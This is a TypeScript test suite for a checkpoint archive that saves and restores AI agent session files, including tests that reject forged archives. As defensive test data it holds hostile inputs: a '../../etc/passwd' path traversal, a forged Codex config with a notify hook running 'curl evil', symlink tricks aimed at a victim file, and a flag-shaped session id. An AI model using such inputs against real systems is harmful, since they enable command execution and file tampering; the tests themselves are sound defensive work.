import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { decodeArchive, digestOf, encodeArchive } from "../../../runner-bridge/src/checkpoint/archive.ts";
import { claudeProjectSlug, collectSession, sessionPlaces } from "../../../runner-bridge/src/checkpoint/files.ts";
import { restoreSession } from "../../../runner-bridge/src/checkpoint/restore.ts";
import { tempDir } from "../harness/bridge.ts";

const THREAD = "019a0000-1111-7222-8333-444455556666";

function write(file: string, text: string): void {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, text);
}

/** Every file under a directory with its text, relative paths sorted. */
function tree(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  for (const entry of fs.readdirSync(dir, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue;
    const full = path.join(entry.parentPath, entry.name);
    out[path.relative(dir, full)] = fs.readFileSync(full, "utf8");
  }
  return out;
}

describe("the checkpoint archive", () => {
  it("round-trips files byte for byte, and the same files always give the same bytes and digest", () => {
    const files = [
      { root: "codex-home" as const, path: "sessions/2026/11/30/b.jsonl", data: Buffer.from("b\n") },
      { root: "codex-home" as const, path: "sessions/2026/11/29/a.jsonl", data: Buffer.from([0, 255, 10]) },
    ];
    const bytes = encodeArchive({ provider: "codex", session: THREAD, files });
    const again = encodeArchive({ provider: "codex", session: THREAD, files: [...files].reverse() });
    expect(again.equals(bytes)).toBe(true);
    expect(digestOf(bytes)).toMatch(/^sha256:[0-9a-f]{64}$/);
    expect(digestOf(again)).toBe(digestOf(bytes));
    expect(decodeArchive(bytes)).toEqual({
      provider: "codex",
      session: THREAD,
      files: [files[1], files[0]],
    });
  });

  it("refuses a cut-off archive, trailing bytes, another format and paths that leave their directory", () => {
    const bytes = encodeArchive({
      provider: "x",
      session: "s",
      files: [{ root: "checkpoint", path: "a", data: Buffer.from("hello") }],
    });
    expect(() => decodeArchive(bytes.subarray(0, bytes.length - 1))).toThrow(/cut off in a/);
    expect(() => decodeArchive(Buffer.concat([bytes, Buffer.from("x")]))).toThrow(/bytes after its last file/);
    expect(() => decodeArchive(Buffer.from("PK\x03\x04"))).toThrow(/not a runner-bridge checkpoint/);
    const evil = Buffer.from(
      `runner-bridge-checkpoint 1\n${JSON.stringify({ provider: "x", session: "s", files: [{ root: "checkpoint", path: "../../etc/passwd", bytes: 0 }] })}\n`,
    );
    expect(() => decodeArchive(evil)).toThrow(/would leave its directory/);
    expect(() =>
      encodeArchive({
        provider: "x",
        session: "s",
        files: [{ root: "codex-home", path: "/abs", data: Buffer.alloc(0) }],
      }),
    ).toThrow(/would leave its directory/);
  });
});

describe("codex: the rollout files of the thread under $CODEX_HOME/sessions", () => {
  it("collects only that thread's rollouts, whole lines only, and restores them under a new CODEX_HOME", () => {
    const home = tempDir("codex-home-");
    const day1 = `sessions/2026/11/29/rollout-2026-11-29T23-59-01-${THREAD}.jsonl`;
    const day2 = `sessions/2026/11/30/rollout-2026-11-30T00-00-02-${THREAD}.jsonl`;
    write(path.join(home, day1), '{"type":"session_meta"}\n');
    write(path.join(home, day2), '{"type":"turn_context"}\n{"type":"response_item","pay'); // being written
    write(path.join(home, "sessions/2026/11/30/rollout-2026-11-30T00-00-03-other-thread.jsonl"), "{}\n");
    write(path.join(home, "state_5.sqlite"), "not ours");
    const places = sessionPlaces("codex", { HOME: "/nonexistent", CODEX_HOME: home }, "/work");

    const archive = collectSession(places, "codex", THREAD);
    expect(archive?.files.map((f) => [f.root, f.path, f.data.toString()])).toEqual([
      ["codex-home", day1, '{"type":"session_meta"}\n'],
      ["codex-home", day2, '{"type":"turn_context"}\n'],
    ]);

    const fresh = tempDir("codex-home-");
    const restored = decodeArchive(encodeArchive(archive!));
    restoreSession(sessionPlaces("codex", { CODEX_HOME: fresh }, "/elsewhere"), restored);
    expect(tree(fresh)).toEqual({ [day1]: '{"type":"session_meta"}\n', [day2]: '{"type":"turn_context"}\n' });
  });

  it("defaults to ~/.codex of the agent's HOME, and has nothing to collect before the rollout exists", () => {
    const home = tempDir("home-");
    const places = sessionPlaces("codex", { HOME: home }, "/work");
    expect(places.codexHome).toBe(path.join(home, ".codex"));
    expect(collectSession(places, "codex", THREAD)).toBeNull();
  });
});

describe("claude-code: <session id>.jsonl under the projects directory of the cwd", () => {
  it("collects the transcript and restores it into the projects directory of the new cwd", () => {
    const config = tempDir("claude-config-");
    const oldCwd = "/sandbox-1/work.tree";
    const newCwd = "/sandbox_2/work";
    expect(claudeProjectSlug(oldCwd)).toBe("-sandbox-1-work-tree");
    write(path.join(config, "projects/-sandbox-1-work-tree/sess-1.jsonl"), '{"type":"user"}\n{"type":"assistant"}\n');
    write(path.join(config, "projects/-sandbox-1-work-tree/sess-2.jsonl"), "{}\n");
    const archive = collectSession(
      sessionPlaces("claude-code", { CLAUDE_CONFIG_DIR: config }, oldCwd),
      "claude-code",
      "sess-1",
    );
    expect(archive?.files.map((f) => [f.root, f.path])).toEqual([["claude-project", "sess-1.jsonl"]]);

    const fresh = tempDir("claude-config-");
    restoreSession(sessionPlaces("claude-code", { CLAUDE_CONFIG_DIR: fresh }, newCwd), archive!);
    expect(tree(fresh)).toEqual({ "projects/-sandbox-2-work/sess-1.jsonl": '{"type":"user"}\n{"type":"assistant"}\n' });
  });

  it("finds a transcript written under another cwd's directory, and defaults to ~/.claude", () => {
    const home = tempDir("home-");
    write(path.join(home, ".claude/projects/-somewhere-else/sess-9.jsonl"), "{}\n");
    const archive = collectSession(sessionPlaces("claude-code", { HOME: home }, "/work"), "claude-code", "sess-9");
    expect(archive?.files.map((f) => f.data.toString())).toEqual(["{}\n"]);
  });
});

describe("ndjson: whatever --checkpoint names", () => {
  it("a file is restored at the new --checkpoint path", () => {
    const dir = tempDir("agent-");
    write(path.join(dir, "state.json"), '{"step":3}');
    const archive = collectSession(sessionPlaces("ndjson", {}, dir, "state.json"), "mine", "s-1");
    expect(archive?.files).toEqual([{ root: "checkpoint", path: "", data: Buffer.from('{"step":3}') }]);
    const other = tempDir("agent-");
    restoreSession(sessionPlaces("ndjson", {}, other, "restored/state.json"), archive!);
    expect(fs.readFileSync(path.join(other, "restored/state.json"), "utf8")).toBe('{"step":3}');
  });

  it("a directory is restored whole; without --checkpoint there is nothing to collect and nowhere to restore", () => {
    const dir = tempDir("agent-");
    write(path.join(dir, "ckpt/a.txt"), "a");
    write(path.join(dir, "ckpt/sub/b.txt"), "b");
    const archive = collectSession(sessionPlaces("ndjson", {}, dir, path.join(dir, "ckpt")), "mine", "s-1");
    const other = tempDir("agent-");
    restoreSession(sessionPlaces("ndjson", {}, other, "ckpt"), archive!);
    expect(tree(path.join(other, "ckpt"))).toEqual({ "a.txt": "a", "sub/b.txt": "b" });
    expect(collectSession(sessionPlaces("ndjson", {}, dir), "mine", "s-1")).toBeNull();
    expect(() => restoreSession(sessionPlaces("ndjson", {}, other), archive!)).toThrow(/pass --checkpoint PATH/);
  });
});

describe("restoring a checkpoint the previous sandbox may have forged", () => {
  const rollout = `sessions/2026/11/30/rollout-2026-11-30T00-00-01-${THREAD}.jsonl`;
  const codexArchive = (...files: [string, string][]) => ({
    provider: "codex",
    session: THREAD,
    files: files.map(([p, text]) => ({ root: "codex-home" as const, path: p, data: Buffer.from(text) })),
  });
  const codexPlaces = (home: string) => sessionPlaces("codex", { CODEX_HOME: home }, "/work");

  it("refuses files collection never takes, before writing any of the others", () => {
    const home = tempDir("codex-home-");
    const forged = codexArchive([rollout, "{}\n"], ["config.toml", 'notify = ["sh", "-c", "curl evil"]\n']);
    expect(() => restoreSession(codexPlaces(home), forged)).toThrow(
      'the checkpoint holds "codex-home/config.toml", which a codex checkpoint never contains',
    );
    const otherThread = codexArchive(["sessions/2026/11/30/rollout-x-other-thread.jsonl", "{}\n"]);
    expect(() => restoreSession(codexPlaces(home), otherThread)).toThrow(/never contains/);
    expect(tree(home)).toEqual({});

    const claude = tempDir("claude-");
    const places = sessionPlaces("claude-code", { CLAUDE_CONFIG_DIR: claude }, "/work");
    for (const [root, p] of [
      ["claude-project", "settings.json"],
      ["claude-project", "other-session.jsonl"],
      ["codex-home", "sess-9.jsonl"],
    ] as const) {
      const archive = {
        provider: "claude-code",
        session: "sess-9",
        files: [{ root, path: p, data: Buffer.from("{}") }],
      };
      expect(() => restoreSession(places, archive)).toThrow(/never contains/);
    }
    expect(tree(claude)).toEqual({});
  });

  it("never writes through a link: a linked directory or target is refused, a hard-linked file is replaced", () => {
    const outside = tempDir("outside-");
    const victim = path.join(outside, "victim.txt");
    fs.writeFileSync(victim, "precious\n");

    const linkedDir = tempDir("codex-home-");
    fs.symlinkSync(outside, path.join(linkedDir, "sessions"));
    expect(() => restoreSession(codexPlaces(linkedDir), codexArchive([rollout, "{}\n"]))).toThrow(
      `restoring the checkpoint would write through the link ${path.join(linkedDir, "sessions")}`,
    );

    const linkedFile = tempDir("codex-home-");
    fs.mkdirSync(path.dirname(path.join(linkedFile, rollout)), { recursive: true });
    fs.symlinkSync(victim, path.join(linkedFile, rollout));
    expect(() => restoreSession(codexPlaces(linkedFile), codexArchive([rollout, "forged\n"]))).toThrow(
      /would write through the link/,
    );
    expect(fs.readFileSync(victim, "utf8")).toBe("precious\n");
    expect(fs.readdirSync(outside)).toEqual(["victim.txt"]);

    const hardLinked = tempDir("codex-home-");
    fs.mkdirSync(path.dirname(path.join(hardLinked, rollout)), { recursive: true });
    fs.linkSync(victim, path.join(hardLinked, rollout));
    restoreSession(codexPlaces(hardLinked), codexArchive([rollout, "restored\n"]));
    expect(fs.readFileSync(path.join(hardLinked, rollout), "utf8")).toBe("restored\n");
    expect(fs.readFileSync(victim, "utf8")).toBe("precious\n");
  });

  it("never writes through a linked root: a .codex, a claude projects directory or a --checkpoint directory made a link", () => {
    const outside = tempDir("outside-");
    const home = tempDir("agent-home-");
    fs.symlinkSync(outside, path.join(home, ".codex"));
    const codex = sessionPlaces("codex", { HOME: home }, "/w");
    expect(() => restoreSession(codex, codexArchive([rollout, "{}\n"]))).toThrow(
      `restoring the checkpoint would write through the link ${path.join(home, ".codex")}`,
    );

    const config = tempDir("claude-config-");
    const workspace = tempDir("workspace-");
    fs.symlinkSync(outside, path.join(config, "projects"));
    const claude = sessionPlaces("claude-code", { CLAUDE_CONFIG_DIR: config }, workspace);
    const session = "7d1a3c2e-0000-4000-8000-000000000001";
    const claudeArchive = {
      provider: "claude-code",
      session,
      files: [{ root: "claude-project" as const, path: `${session}.jsonl`, data: Buffer.from("{}\n") }],
    };
    expect(() => restoreSession(claude, claudeArchive)).toThrow(/would write through the link .*projects/);

    fs.symlinkSync(outside, path.join(workspace, "state"));
    const ndjson = sessionPlaces("ndjson", {}, workspace, path.join(workspace, "state"));
    const stateArchive = {
      provider: "ndjson",
      session: "s-1",
      files: [{ root: "checkpoint" as const, path: "notes.txt", data: Buffer.from("forged\n") }],
    };
    expect(() => restoreSession(ndjson, stateArchive)).toThrow(
      `restoring the checkpoint would write through the link ${path.join(workspace, "state")}`,
    );
    expect(fs.readdirSync(outside)).toEqual([]);
  });

  it("a session id shaped like a flag or a path is neither collected nor restored", () => {
    const home = tempDir("codex-home-");
    write(path.join(home, "sessions/x/rollout-1---yolo.jsonl"), "{}\n");
    const places = codexPlaces(home);
    expect(collectSession(places, "codex", "--yolo")).toBeNull();
    expect(collectSession(sessionPlaces("claude-code", { CLAUDE_CONFIG_DIR: home }, "/w"), "c", "../../x")).toBeNull();
    const archive = { provider: "codex", session: "--yolo", files: [] };
    expect(() => restoreSession(places, archive)).toThrow(
      `the checkpoint's session id "--yolo" is not a codex thread id (it reads as a command-line flag)`,
    );
  });
});
